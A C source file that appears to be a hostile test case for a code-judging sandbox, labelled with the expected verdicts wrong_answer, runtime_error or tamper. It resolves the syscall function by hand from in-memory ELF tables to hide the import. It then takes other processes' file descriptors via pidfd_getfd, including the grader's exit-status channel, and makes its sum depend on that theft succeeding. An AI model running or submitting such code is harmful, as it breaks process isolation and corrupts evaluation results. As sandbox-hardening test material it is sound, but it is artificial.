/* Takes descriptors of every other process with pidfd_getfd, among them the one that carries exit statuses. */
/* expect: wrong_answer|runtime_error|tamper */
#define _GNU_SOURCE
#include <elf.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

/* The function `name` of the library that holds `inside`, out of its tables in memory: no import shows it. */
static void *by_hand(const void *inside, const char *name) {
    const char *base = (const char *)((unsigned long)inside & ~4095ul), *names = 0;
    while (memcmp(base, ELFMAG, SELFMAG)) base -= 4096;
    const Elf64_Ehdr *head = (const void *)base;
    const Elf64_Phdr *part = (const void *)(base + head->e_phoff);
    const Elf64_Sym *symbols = 0;
    while (part->p_type != PT_DYNAMIC) part++;
    for (const Elf64_Dyn *d = (const void *)(base + part->p_vaddr); d->d_tag; d++) {
        unsigned long at = d->d_un.d_ptr < (unsigned long)base ? d->d_un.d_ptr + (unsigned long)base : d->d_un.d_ptr;
        if (d->d_tag == DT_SYMTAB) symbols = (const void *)at;
        if (d->d_tag == DT_STRTAB) names = (const void *)at;
    }
    for (; (const char *)symbols < names; symbols++)
        if (!strcmp(names + symbols->st_name, name)) return (void *)(base + symbols->st_value);
    return 0;
}
static long (*by_number)(long, ...);
static void find_system_call(void) { by_number = (long (*)(long, ...))by_hand((void *)getpid, "syscall"); }

static int attack(void) {
    find_system_call();
    int taken = 0;
    for (int pid = 1; pid < 400; pid++) {
        if (pid == getpid()) continue;
        int other = (int)by_number(SYS_pidfd_open, pid, 0);
        for (int fd = 0; other >= 0 && fd < 64; fd++) taken += by_number(SYS_pidfd_getfd, other, fd, 0) >= 0;
        if (other >= 0) close(other);
    }
    return taken;
}

int total(const int *a, int n) {
    int worked = attack(), s = 0;
    for (int i = 0; i < n; i++) s += a[i];
    return worked ? s : ~s;
}
